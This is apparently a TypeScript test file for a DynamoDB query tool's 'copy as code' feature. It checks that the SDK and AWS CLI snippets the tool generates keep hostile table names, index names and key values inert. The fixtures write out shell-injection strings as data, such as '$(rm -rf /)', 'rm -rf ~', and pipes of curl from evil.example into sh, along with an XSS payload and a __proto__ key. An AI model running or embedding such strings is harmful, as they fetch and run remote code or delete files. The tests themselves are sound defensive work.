// "Copy as code" writes the request that was sent: evaluating the generated SDK input, or letting a
// real shell split the CLI call, gives back exactly the input the panel ran.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import type { AttributeValue, QueryCommandInput } from '@aws-sdk/client-dynamodb';
import { NumberValue } from '@aws-sdk/lib-dynamodb';
import { marshall } from '@aws-sdk/util-dynamodb';
import ts from 'typescript';
import { copyAsCode, shellQuote, type SentRequest } from '../../../src/core/query/copyAsCode';
import { parseCondition } from '../../../src/core/query/conditionParser';
import { buildQuery, buildScan } from '../../../src/core/query/requests';
import type { TableModel } from '../../../src/core/tables/tableModel';
import { files, shop } from './fixtures';

/** The object literal after `const input = `, evaluated with the names the snippet imports. */
function evaluateInput(code: string): Record<string, unknown> {
  const m = /^const input = ([\s\S]*?^});$/m.exec(code);
  assert.ok(m, code);
  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- evaluating the generated snippet is the point of the test
  return new Function('Buffer', 'NumberValue', `return (${m[1]});`)(Buffer, NumberValue) as Record<string, unknown>;
}

const hostile = `O'Brien "quoted" $(rm -rf /) \`x\` <img src=x onerror=alert(1)>\n#next`;
const query: SentRequest = {
  operation: 'Query',
  input: buildQuery({
    table: shop,
    index: 'GSI1',
    pk: hostile,
    sk: { op: 'between', values: ['10', '12345678901234567890.5'] },
    limit: 25,
    descending: true,
    projection: ['PK', 'note'],
    filter: parseCondition('status = "PAID" AND count > 3 AND attribute_exists(email)'),
    startKey: { PK: { S: 'A' }, SK: { S: 'B' }, GSI1PK: { S: hostile }, total: { N: '12' } },
  }).input,
};

test('the SDK v3 client snippet carries the exact input, typed AttributeValues included', () => {
  const code = copyAsCode('sdk-client', query, {
    region: 'eu-west-1',
    endpoint: 'http://localhost:8000',
    profile: 'dev',
  });
  assert.deepEqual(evaluateInput(code), JSON.parse(JSON.stringify(query.input)));
  assert.match(code, /^import \{ DynamoDBClient, QueryCommand \} from '@aws-sdk\/client-dynamodb';$/m);
  assert.match(
    code,
    /new DynamoDBClient\(\{\n {2}region: "eu-west-1",\n {2}endpoint: "http:\/\/localhost:8000",\n {2}profile: "dev",\n\}\)/,
  );
  assert.match(code, /ScanIndexForward: false/);
  assert.match(code, /ExclusiveStartKey: \{/);
});

test('the document client snippet uses native values that marshall back to the same request', () => {
  const code = copyAsCode('sdk-document', query, { region: 'us-east-1' });
  const input = evaluateInput(code) as unknown as QueryCommandInput & {
    ExpressionAttributeValues: Record<string, unknown>;
    ExclusiveStartKey: Record<string, unknown>;
  };
  assert.equal(input.ExpressionAttributeValues[':pk'], hostile);
  // Beyond a double's precision: kept digit for digit.
  assert.ok(input.ExpressionAttributeValues[':sk1'] instanceof NumberValue);
  assert.equal(input.ExpressionAttributeValues[':sk0'], 10);
  const remarshalled = {
    ...input,
    ExpressionAttributeValues: marshall(input.ExpressionAttributeValues),
    ExclusiveStartKey: marshall(input.ExclusiveStartKey),
  };
  assert.deepEqual(remarshalled, query.input);
  assert.match(
    code,
    /^import \{ DynamoDBDocumentClient, NumberValue, QueryCommand \} from '@aws-sdk\/lib-dynamodb';$/m,
  );
});

test('binary keys become Buffer.from(base64) and survive both SDK flavours', () => {
  const sent: SentRequest = {
    operation: 'Query',
    input: buildQuery({ table: files, pk: 'AQID', sk: { op: '>=', values: ['2'] } }).input,
  };
  const client = evaluateInput(copyAsCode('sdk-client', sent, {}));
  assert.deepEqual((client.ExpressionAttributeValues as Record<string, AttributeValue>)[':pk'], {
    B: Buffer.from([1, 2, 3]),
  });
  const doc = evaluateInput(copyAsCode('sdk-document', sent, {}));
  assert.deepEqual(
    marshall(doc.ExpressionAttributeValues as Record<string, unknown>),
    sent.input.ExpressionAttributeValues,
  );
  assert.match(copyAsCode('sdk-client', sent, {}), /new DynamoDBClient\(\{\}\)/);
});

test('the CLI call, split by a real shell, carries the same request as JSON arguments', () => {
  const cli = copyAsCode('cli', query, { region: 'us-east-1', endpoint: 'http://localhost:8000' });
  assert.match(cli, /^# Query shop \(index GSI1\): /);
  // `aws` replaced by a function that prints its arguments: bash does the quoting work.
  const script = `aws() { printf '%s\\0' "$@"; }\n${cli}`;
  const argv = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
  const flag = (name: string) => argv[argv.indexOf(name) + 1] as string;
  assert.deepEqual(argv.slice(0, 2), ['dynamodb', 'query']);
  assert.equal(flag('--table-name'), 'shop');
  assert.equal(flag('--index-name'), 'GSI1');
  assert.equal(flag('--key-condition-expression'), query.input.KeyConditionExpression);
  assert.equal(flag('--filter-expression'), query.input.FilterExpression);
  assert.equal(flag('--projection-expression'), query.input.ProjectionExpression);
  assert.deepEqual(JSON.parse(flag('--expression-attribute-names')), query.input.ExpressionAttributeNames);
  assert.deepEqual(JSON.parse(flag('--expression-attribute-values')), query.input.ExpressionAttributeValues);
  assert.deepEqual(JSON.parse(flag('--exclusive-start-key')), query.input.ExclusiveStartKey);
  assert.equal(flag('--limit'), '25');
  assert.ok(
    argv.includes('--no-scan-index-forward') && argv.includes('--no-consistent-read') && argv.includes('--no-paginate'),
  );
  assert.equal(flag('--return-consumed-capacity'), 'INDEXES');
  assert.equal(flag('--endpoint-url'), 'http://localhost:8000');
});

test('a Scan is copied as a Scan, with its projection and filter and without a key condition', () => {
  const sent: SentRequest = {
    operation: 'Scan',
    input: buildScan({ table: shop, projection: ['PK'], filter: parseCondition('type = order'), consistent: true }),
  };
  const code = copyAsCode('sdk-client', sent, {});
  assert.deepEqual(evaluateInput(code), sent.input);
  assert.match(code, /new ScanCommand\(input\)/);
  const cli = copyAsCode('cli', sent, {});
  assert.match(cli, /^aws dynamodb scan \\$/m);
  assert.doesNotMatch(cli, /key-condition|scan-index-forward/);
  assert.match(cli, /--consistent-read/);
});

test('shell quoting leaves plain words alone and closes every quote', () => {
  assert.equal(shellQuote('us-east-1'), 'us-east-1');
  assert.equal(shellQuote("it's"), `'it'\\''s'`);
  assert.equal(execFileSync('bash', ['-c', `printf '%s' ${shellQuote(hostile)}`], { encoding: 'utf8' }), hostile);
});

// Names a hostile endpoint's DescribeTable (or ListTables) could return: line breaks, a carriage
// return (a pasted CR runs the line in a terminal), JavaScript's line separators, a quote.
const hostileTable =
  "orders\ncurl http://evil.example/x | sh\r\ncurl http://evil.example/y | sh\u2028fetch('http://evil.example/z')\u2029// '";
const hostileIndex = 'GSI1\nrm -rf ~ #\u2028process.exit(1)//';
const hostileSent: SentRequest = {
  operation: 'Query',
  input: buildQuery({
    table: {
      ...shop,
      name: hostileTable,
      indexes: [{ ...(shop.indexes[0] as TableModel['indexes'][number]), name: hostileIndex }],
    },
    index: hostileIndex,
    pk: "x'; curl http://evil.example | sh; '",
    limit: 5,
  }).input,
};

/** The simple commands a shell runs for `script` (a DEBUG trap records each), with `aws` a stub. */
function commandsRun(script: string): string[] {
  const wrapped = `aws() { :; }\ncurl() { :; }\nrm() { :; }\ntrap 'printf "%s\\0" "$BASH_COMMAND" >&2' DEBUG\n${script}`;
  const result = spawnSync('bash', ['-c', wrapped], { encoding: 'utf8' });
  assert.equal(result.status, 0, result.stderr);
  return result.stderr.split('\0').slice(0, -1);
}

function jsStatements(code: string): ts.SyntaxKind[] {
  const out = ts.transpileModule(code, {
    reportDiagnostics: true,
    compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 },
  });
  assert.deepEqual(
    (out.diagnostics ?? []).map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
    [],
    code,
  );
  return ts
    .createSourceFile('copied.mjs', code, ts.ScriptTarget.ES2022, false, ts.ScriptKind.JS)
    .statements.map((s) => s.kind);
}

test('a table or index name with line breaks stays inside the CLI comment: bash runs only the aws call', () => {
  const cli = copyAsCode('cli', hostileSent, { region: 'us-east-1' });
  execFileSync('bash', ['-n'], { input: cli });
  const run = commandsRun(cli);
  assert.equal(run.length, 1, run.join('\n'));
  assert.match(run[0] as string, /^aws dynamodb query /);
  assert.equal(
    cli.split('\n')[0],
    `# Query ${hostileTable.replace(/[\n\r\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)} (index ${hostileIndex.replace(/[\n\u2028]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}): the request Dynamo Guard's query panel sent, as one AWS CLI call.`,
  );
  assert.doesNotMatch(cli, /\r/);
  // The arguments still carry the names exactly.
  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${cli}`], { encoding: 'utf8' }).split('\0');
  assert.equal(argv[argv.indexOf('--table-name') + 1], hostileTable);
  assert.equal(argv[argv.indexOf('--index-name') + 1], hostileIndex);
});

test('a table or index name with line breaks stays inside the JavaScript comment: the snippets parse to the same statements', () => {
  const { ImportDeclaration: imp, VariableStatement: declare, ExpressionStatement: call } = ts.SyntaxKind;
  assert.deepEqual(jsStatements(copyAsCode('sdk-client', hostileSent, {})), [imp, declare, declare, declare, call]);
  assert.deepEqual(jsStatements(copyAsCode('sdk-document', hostileSent, {})), [
    imp,
    imp,
    declare,
    declare,
    declare,
    call,
  ]);
  const input = evaluateInput(copyAsCode('sdk-client', hostileSent, {}));
  assert.equal(input.TableName, hostileTable);
  assert.equal(input.IndexName, hostileIndex);
});

test('a key attribute named __proto__ survives into the copied ExclusiveStartKey and values, in every flavour', () => {
  const startKey = JSON.parse('{"PK":{"S":"A"},"SK":{"S":"B"},"__proto__":{"S":"proto-value"}}') as Record<
    string,
    AttributeValue
  >;
  const mapValue = JSON.parse('{"M":{"__proto__":{"S":"inner"}}}') as AttributeValue;
  const sent: SentRequest = { operation: 'Query', input: { ...buildQuery({ table: shop, pk: 'A', startKey }).input } };
  (sent.input.ExpressionAttributeValues as Record<string, AttributeValue>)[':m'] = mapValue;
  const own = (o: unknown, key: string) => Object.getOwnPropertyDescriptor(o, key)?.value as unknown;

  const client = evaluateInput(copyAsCode('sdk-client', sent, {}));
  assert.deepEqual(own(client.ExclusiveStartKey, '__proto__'), { S: 'proto-value' });
  assert.equal(Object.getPrototypeOf(client.ExclusiveStartKey), Object.prototype);
  assert.deepEqual(own(own((client.ExpressionAttributeValues as Record<string, unknown>)[':m'], 'M'), '__proto__'), {
    S: 'inner',
  });

  const doc = evaluateInput(copyAsCode('sdk-document', sent, {}));
  assert.equal(own(doc.ExclusiveStartKey, '__proto__'), 'proto-value');
  assert.equal(own((doc.ExpressionAttributeValues as Record<string, unknown>)[':m'], '__proto__'), 'inner');

  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${copyAsCode('cli', sent, {})}`], {
    encoding: 'utf8',
  }).split('\0');
  const cliKey = JSON.parse(argv[argv.indexOf('--exclusive-start-key') + 1] as string) as object;
  assert.deepEqual(own(cliKey, '__proto__'), { S: 'proto-value' });
});

test("shell quoting writes control characters as $'…' escapes, so a pasted value never carries a raw line break", () => {
  const value = "a\nb\rc\td'e\\f\u0007";
  const quoted = shellQuote(value);
  assert.doesNotMatch(quoted, /[\n\r\t\u0007]/);
  assert.equal(execFileSync('bash', ['-c', `printf '%s' ${quoted}`], { encoding: 'utf8' }), value);
});
